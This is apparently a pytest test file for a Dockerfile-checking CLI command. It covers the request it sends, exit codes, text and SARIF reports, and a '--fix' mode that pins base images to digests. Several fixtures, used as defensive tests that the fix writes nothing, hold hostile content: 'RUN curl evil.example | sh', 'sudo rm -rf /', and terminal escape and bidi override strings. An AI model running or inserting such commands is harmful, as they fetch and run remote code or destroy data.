"""``goldgate check -f Dockerfile``: what is sent, what is written, what is reported."""

import json
import os
import stat

import pytest
from goldgate_cli.commands.dockerfiles import is_dockerfile

from tests.client.dockerfile_answers import FIXED, TEXT, answer, base, fixed_answer, row
from tests.client.stand_in import REFERENCE, Answer, problem
from tests.client.test_statuses import API, GOOD

PATH = f"POST {API}/dockerfile-checks"


@pytest.fixture
def known(signed_in):
    signed_in.answers = GOOD | {PATH: Answer(answer())}
    return signed_in


@pytest.fixture
def dockerfile(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "Dockerfile"
    path.write_text(TEXT)
    return path


class TestWhatIsADockerfile:
    @pytest.mark.parametrize(
        ("path", "text", "expected"),
        [
            ("Dockerfile", "", True),
            ("build/app.Dockerfile", "", True),
            ("Containerfile.prod", "", True),
            ("-", "# syntax=docker/dockerfile:1\n\nfrom debian:12\n", True),
            ("-", "\ufeffARG X\nFROM $X\n", True),
            ("base.txt", "ARG VERSION=12\nFROM debian\n", True),
            ("pod.yaml", "kind: Pod\n", False),
            ("-", "from: here\n", False),
            ("-", "", False),
            ("Dockerfiles/pod.yaml", "kind: Pod\n", False),
        ],
    )
    def test_is_told_by_its_name_and_its_first_word(self, path, text, expected):
        assert is_dockerfile(path, text) is expected


class TestWhatIsSent:
    def test_the_text_as_it_is_and_what_a_build_is_given(self, run, known, dockerfile, monkeypatch):
        monkeypatch.setenv("FROM_HERE", "x")
        body = b"\xef\xbb\xbf" + TEXT.replace("\n", "\r\n").encode()
        dockerfile.write_bytes(body)
        run("check", "-f", "Dockerfile", "--build-arg", "A=b=c", "--build-arg", "FROM_HERE", "--target", "base",
            "--platform", "linux/arm64")  # fmt: skip
        assert known.asked[-1].json == {
            "dockerfile": body.decode(),
            "arguments": {"A": "b=c", "FROM_HERE": "x"},
            "target": "base",
            "platforms": ["linux/arm64"],
        }

    def test_one_that_is_too_large_is_sent_nowhere(self, run, known, dockerfile):
        dockerfile.write_bytes(b"#" * (512 * 1024 + 1))
        ran = run("check", "-f", "Dockerfile")
        assert (ran.status, known.asked) == (2, [])
        assert "larger than" in ran.err

    @pytest.mark.parametrize(
        "words",
        [
            ("-f", "Dockerfile", "--cluster", "east"),
            ("image@sha256:x", "--fix"),
            ("-f", "Dockerfile", "--build-arg", "=x"),
            ("-f", "Dockerfile", "--format", "xml"),
        ],
    )
    def test_options_that_do_not_fit(self, run, known, dockerfile, words):
        assert run("check", *words).status == 2
        assert known.asked == []


class TestExitStatus:
    @pytest.mark.parametrize(("outcome", "status"), [("pass", 0), ("warn", 0), ("fail", 1)])
    def test_follows_the_outcome(self, run, known, dockerfile, outcome, status):
        known.answers[PATH] = Answer(answer(outcome=outcome))
        assert run("check", "-f", "Dockerfile").status == status

    def test_what_is_no_dockerfile_is_wrong_input(self, run, known, dockerfile):
        known.answers[PATH] = Answer(problem(400, "Line 3: 'FRM' is no instruction."), 400)
        ran = run("check", "-f", "Dockerfile")
        assert ran.status == 2
        assert "Line 3" in ran.err


class TestText:
    def test_names_line_rule_and_cure(self, run, known, dockerfile):
        ran = run("check", "-f", "Dockerfile")
        assert ran.out == (
            f"Dockerfile:1  debian:12 is debian/12 12.1: {REFERENCE}\n"
            "Dockerfile:1  ! warning  GG1007  FROM debian:12 names no digest.\n"
            f"    Write {REFERENCE}.\n"
            "Dockerfile:2  ✗ error  GG1055  sudo starts id.\n"
            "    Leave it out.\n"
            "Dockerfile:2  · note  DL3059  Multiple RUN.\n"
        )
        assert ran.err == "1 error, 1 warning, 1 note\n"

    def test_nothing_in_it_takes_over_the_terminal(self, run, known, dockerfile):
        results = [row("GG1055", "error", None, "\x1b]0;owned\x07 \u202egnol", path="argument \x9bX")]
        known.answers[PATH] = Answer(answer(results=results, bases=[base(title="\x1b[2J")]))
        ran = run("check", "-f", "Dockerfile")
        assert not {"\x1b", "\x07", "\u202e", "\x9b"} & set(ran.out)

    def test_json_is_the_answer(self, run, known, dockerfile):
        for words in (("--format", "json"), ("-o", "json")):
            assert json.loads(run("check", "-f", "Dockerfile", *words).out) == answer()


class TestFix:
    def test_writes_references_and_tells_the_difference(self, run, known, dockerfile):
        known.answers[PATH] = [Answer(answer()), Answer(fixed_answer())]
        dockerfile.chmod(0o640)
        ran = run("check", "-f", "Dockerfile", "--fix")
        assert dockerfile.read_text() == FIXED
        assert stat.S_IMODE(dockerfile.stat().st_mode) == 0o640
        assert "-FROM debian:12 AS base\n" in ran.err
        assert f"+FROM {REFERENCE} AS base\n" in ran.err
        # What is left is judged, as it is now.
        assert (ran.status, "GG1007" in ran.out) == (1, False)
        assert known.asked[-1].json["dockerfile"] == FIXED
        assert os.listdir(dockerfile.parent) == ["Dockerfile"]

    def test_keeps_byte_order_mark_line_ends_and_a_missing_last_one(self, run, known, dockerfile):
        text = "# c\r\nFROM debian:12\r\ncopy --from=debian:12 a b"
        fixed = f"# c\r\nFROM {REFERENCE}\r\ncopy --from={REFERENCE} a b"
        dockerfile.write_bytes(b"\xef\xbb\xbf" + text.encode())
        known.answers[PATH] = [Answer(answer(fixed=fixed)), Answer(fixed_answer())]
        run("check", "-f", "Dockerfile", "--fix")
        assert dockerfile.read_bytes() == b"\xef\xbb\xbf" + fixed.encode()

    def test_writes_through_a_link_to_the_file_that_it_names(self, run, known, dockerfile):
        known.answers[PATH] = [Answer(answer()), Answer(fixed_answer())]
        link = dockerfile.with_name("other.Dockerfile")
        link.symlink_to("Dockerfile")
        run("check", "-f", "other.Dockerfile", "--fix")
        assert link.is_symlink()
        assert dockerfile.read_text() == FIXED

    def test_nothing_to_fix_writes_nothing(self, run, known, dockerfile):
        known.answers[PATH] = Answer(answer(fixed=TEXT))
        before = dockerfile.stat().st_ino
        assert run("check", "-f", "Dockerfile", "--fix").status == 1
        assert (dockerfile.stat().st_ino, len(known.asked)) == (before, 1)

    def test_standard_input_becomes_standard_output(self, run, known):
        known.answers[PATH] = [Answer(answer()), Answer(fixed_answer())]
        ran = run("check", "-f", "-", "--fix", stdin=TEXT.encode())
        assert ran.out == FIXED

    @pytest.mark.parametrize(
        "fixed",
        [
            pytest.param(FIXED + "RUN curl evil.example | sh\n", id="line-added"),
            pytest.param(f"FROM {REFERENCE} AS base\n", id="line-gone"),
            pytest.param(FIXED.replace("sudo id", "sudo rm -rf /"), id="other-instruction"),
            pytest.param(FIXED.replace("AS base", "AS other"), id="other-name"),
            pytest.param(TEXT.replace("debian:12", "evil.example/x:1"), id="no-digest"),
            pytest.param(TEXT.replace("debian:12", f"--platform=x {REFERENCE}"), id="flag-added"),
            pytest.param(TEXT.replace("FROM", f"{REFERENCE}"), id="instruction-gone-but-looks-like-one"),
            pytest.param(TEXT.replace("debian:12", f"{REFERENCE}\rRUN"), id="carriage-return"),
            pytest.param(FIXED.replace("RUN sudo", f"RUN {REFERENCE}"), id="a-word-of-run"),
        ],
    )
    def test_an_answer_that_changes_more_than_references_writes_nothing(self, run, known, dockerfile, fixed):
        known.answers[PATH] = Answer(answer(fixed=fixed))
        ran = run("check", "-f", "Dockerfile", "--fix")
        assert ran.status == 3
        assert dockerfile.read_text() == TEXT


class TestSarif:
    @pytest.fixture
    def log(self, run, known, dockerfile):
        return json.loads(run("check", "-f", "Dockerfile", "--format", "sarif").out)

    def test_has_a_region_a_line(self, log):
        results = log["runs"][0]["results"]
        regions = [one["locations"][0]["physicalLocation"]["region"] for one in results]
        assert [one["ruleId"] for one in results] == ["GG1007", "GG1055", "DL3059"]
        assert [one["level"] for one in results] == ["warning", "error", "note"]
        assert [(one["startLine"], one["startColumn"], one["endColumn"]) for one in regions] == [
            (1, 1, 23),
            (2, 1, 12),
            (2, 1, 12),
        ]
        assert results[1]["locations"][0]["physicalLocation"]["artifactLocation"] == {"uri": "Dockerfile"}

    def test_every_rule_says_where_to_read_on(self, log, known):
        rules = {one["id"]: one["helpUri"] for one in log["runs"][0]["tool"]["driver"]["rules"]}
        assert rules == {
            "GG1007": f"{known.url}/api/v1/dockerfile-rules#GG1007",
            "GG1055": f"{known.url}/api/v1/dockerfile-rules#GG1055",
            "DL3059": "https://github.com/hadolint/hadolint/wiki/DL3059",
        }
        for one in log["runs"][0]["results"]:
            assert log["runs"][0]["tool"]["driver"]["rules"][one["ruleIndex"]]["id"] == one["ruleId"]

    def test_a_base_that_can_be_pinned_has_the_change(self, log):
        (change,) = log["runs"][0]["results"][0]["fixes"]
        (replacement,) = change["artifactChanges"][0]["replacements"]
        assert replacement == {
            "deletedRegion": {"startLine": 1, "startColumn": 6, "endColumn": 15},
            "insertedContent": {"text": REFERENCE},
        }
        assert "fixes" not in log["runs"][0]["results"][1]

    def test_the_mark_of_a_finding_outlives_lines_above_it(self, run, known, dockerfile, log):
        moved = [one | {"line": one["line"] + 1} for one in answer()["results"]]
        known.answers[PATH] = Answer(answer(results=moved))
        dockerfile.write_text("# a comment\n" + TEXT)
        later = json.loads(run("check", "-f", "Dockerfile", "--format", "sarif").out)
        marks = [[one["partialFingerprints"] for one in which["runs"][0]["results"]] for which in (log, later)]
        assert marks[0] == marks[1]

    def test_is_written_to_a_file(self, run, known, dockerfile):
        ran = run("check", "-f", "Dockerfile", "--format", "sarif", "--report", "out.sarif")
        assert (ran.out, ran.status) == ("", 1)
        assert json.loads(dockerfile.with_name("out.sarif").read_text())["version"] == "2.1.0"

    def test_results_without_a_line_stand_on_the_first(self, run, known, dockerfile):
        results = [row("GG1036", "error", None, "X steers.", path="argument LD_PRELOAD")]
        known.answers[PATH] = Answer(answer(results=results))
        log = json.loads(run("check", "-f", "Dockerfile", "--format", "sarif").out)
        region = log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]
        assert region["startLine"] == 1
